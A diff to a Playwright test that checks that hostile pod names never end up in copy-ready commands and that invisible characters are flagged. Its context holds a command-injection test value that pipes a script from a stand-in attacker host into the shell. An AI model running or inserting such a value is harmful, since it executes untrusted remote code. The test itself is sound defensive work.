@@ -3,7 +3,7 @@
 // placeholders say why, and the evidence line says it holds invisible characters.
 import { test, expect } from '@playwright/test';
 import { APP_URL } from '../../playwright.config';
-import { pasteText } from './helpers';
+import { pasteText, reportRendered } from './helpers';
 import { describePod, SANDBOX_EVENT } from '../engine/hostile/pastes';
 
 const NAME = 'web-1; curl -s https://evil.example/x.sh | sh; #';
@@ -21,6 +21,7 @@ test('hostile names never reach a copied command; invisible characters are flagg
   await page.getByRole('heading', { name: 'Input' }).click();
   await pasteText(page, PASTE);
   await expect(page.getByTestId('verdict')).toBeVisible({ timeout: 15_000 });
+  await reportRendered(page);
 
   const buttons = page.getByRole('button', { name: /^Copy command/ });
   const n = await buttons.count();
